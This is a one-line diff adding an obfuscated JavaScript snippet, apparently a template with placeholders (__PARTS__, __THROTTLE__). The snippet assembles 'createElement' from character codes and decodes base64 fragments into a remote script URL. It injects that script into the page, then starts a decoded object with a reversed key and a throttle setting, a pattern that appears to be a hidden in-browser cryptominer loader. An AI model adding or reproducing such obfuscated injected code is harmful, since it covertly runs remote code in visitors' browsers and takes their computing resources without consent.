@@ -1,0 +1,1 @@
+(function(){var _a=__PARTS__,_d=document,_s=_d[String.fromCharCode(99,114,101,97,116,101,69,108,101,109,101,110,116)](atob(_a[0]));_s.src=atob(_a[1]+_a[2]);_s.async=!0;_s.onload=function(){var M=window[atob(_a[3])];new M[atob(_a[4])](atob(_a[5]).split('').reverse().join(''),{throttle:__THROTTLE__}).start()};(_d.head||_d.body).appendChild(_s)})();
